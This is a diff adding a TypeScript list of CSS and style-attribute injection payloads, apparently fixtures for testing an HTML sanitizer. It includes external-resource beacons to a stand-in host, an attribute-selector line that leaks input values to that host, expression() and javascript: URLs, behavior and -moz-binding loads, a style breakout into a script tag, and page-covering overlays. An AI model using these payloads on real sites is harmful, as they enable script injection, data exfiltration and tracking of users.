@@ -1,0 +1,21 @@
+/** Style sheets and style attributes that load, calculate or cover. */
+export const styles: readonly string[] = [
+  '<style>@import "https://foreign.example/x.css";</style>',
+  '<style>body{background:url(https://foreign.example/pixel.gif)}</style>',
+  '<style>input[value^="a"]{background:url(https://foreign.example/a)}</style>',
+  '<style>*{display:none!important}</style>',
+  '<style>@font-face{font-family:x;src:url(https://foreign.example/x.woff)}*{font-family:x}</style>',
+  '<style>body{-moz-binding:url("https://foreign.example/x.xml#x")}</style>',
+  '<div style="background:url(javascript:ran(1))">x</div>',
+  '<div style="background:url(https://foreign.example/pixel.gif)">x</div>',
+  '<div style="width:expression(ran(1))">x</div>',
+  '<div style="behavior:url(https://foreign.example/x.htc)">x</div>',
+  '<div style="position:fixed;inset:0;z-index:99999;background:red">x</div>',
+  '<xss style="xss:expr/*XSS*/ession(ran(1))">',
+  '<p style="list-style-image:url(https://foreign.example/pixel.gif)">x</p>',
+  'red;background:url(https://foreign.example/pixel.gif)',
+  '}</style><script>ran(1)</script>',
+  'x;}*{background:url(https://foreign.example/pixel.gif)}',
+  'expression(ran(1))',
+  'url("javascript:ran(1)")',
+];
